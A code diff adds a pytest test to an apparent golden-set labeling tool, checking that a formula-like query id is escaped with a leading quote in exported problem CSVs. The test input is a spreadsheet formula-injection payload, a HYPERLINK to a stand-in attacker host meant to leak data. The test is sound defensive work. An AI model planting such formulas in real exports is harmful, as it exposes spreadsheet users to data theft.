@@ -96,6 +96,26 @@ def test_problems_found_against_the_set_have_their_code_and_query(golden_set: Go
     assert not Query.objects.exists() and not FrozenLabel.objects.exists()
 
 
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    golden_set: GoldenSet, rita: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?leak","open")'
+    labeling_services.documents_import(golden_set=golden_set, data=jsonl(doc("d1")), source="docs")
+    data = golden_file(golden_query(formula, ("d1", 9)), golden_query("-0.12", ("d1", 9)))  # off the scale
+    response = _post(_client(rita), golden_set, "golden.json", data, "golden_import_problems")
+    assert response.status_code == 200
+    query_ids = [row[3] for row in _rows(response.content)[1:]]
+    # Before, the id was written as it is: a live formula (a link that leaks, or a command) when opened.
+    assert sorted(query_ids) == ["'" + formula, "-0.12"]  # a number stays a number
+    assert not any(cell.startswith(("=", "+", "@")) for row in _rows(response.content) for cell in row)
+    # The command writes the same escaped CSV.
+    (tmp_path / "golden.json").write_bytes(data)
+    written = tmp_path / "problems.csv"
+    main(["validate", "--golden", str(tmp_path / "golden.json"), "--problems-csv", str(written)])
+    capsys.readouterr()
+    assert sorted(row[3] for row in _rows(written.read_bytes())[1:]) == ["'" + formula, "-0.12"]
+
+
 def test_a_file_without_problems_is_a_csv_of_the_header_only_and_imports_nothing(
     golden_set: GoldenSet, rita: User
 ) -> None:
